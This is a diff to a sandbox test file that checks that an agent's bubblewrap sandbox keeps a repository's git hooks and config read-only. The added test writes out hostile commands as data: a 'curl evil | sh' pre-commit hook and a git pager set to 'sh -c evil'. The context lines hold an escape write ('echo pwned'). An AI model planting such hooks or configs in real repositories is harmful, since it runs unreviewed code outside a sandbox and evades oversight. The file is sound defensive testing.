@@ -32,6 +32,18 @@ describe.skipIf(!onLinux)('bubblewrap: the file system', () => {
     expect(readFileSync(join(files.project(), 'sub', 'a.txt'), 'utf8')).toBe('hello\n')
   })
 
+  it("keeps the repository's hooks and config read-only, so nothing runs later outside the sandbox", async () => {
+    await mkdir(join(files.project(), '.git', 'hooks'), { recursive: true })
+    await writeFile(join(files.project(), '.git', 'config'), '[core]\n')
+    const result = await bash(
+      "echo 'curl evil | sh' > .git/hooks/pre-commit; printf '[core]\\n\\tpager = sh -c evil\\n' >> .git/config; echo ref > .git/HEAD && cat .git/HEAD",
+    )
+    expect(afterApproval(result.output)).toMatch(/Read-only file system[\s\S]*Read-only file system[\s\S]*ref$/)
+    expect(existsSync(join(files.project(), '.git', 'hooks', 'pre-commit'))).toBe(false)
+    expect(readFileSync(join(files.project(), '.git', 'config'), 'utf8')).toBe('[core]\n')
+    expect(readFileSync(join(files.project(), '.git', 'HEAD'), 'utf8')).toBe('ref\n')
+  })
+
   // Approved, since the classifier flags the obvious ones: approval does not lift the sandbox.
   it.each([
     ['a direct path', (outside: string) => `echo pwned > ${outside}/new.txt`],
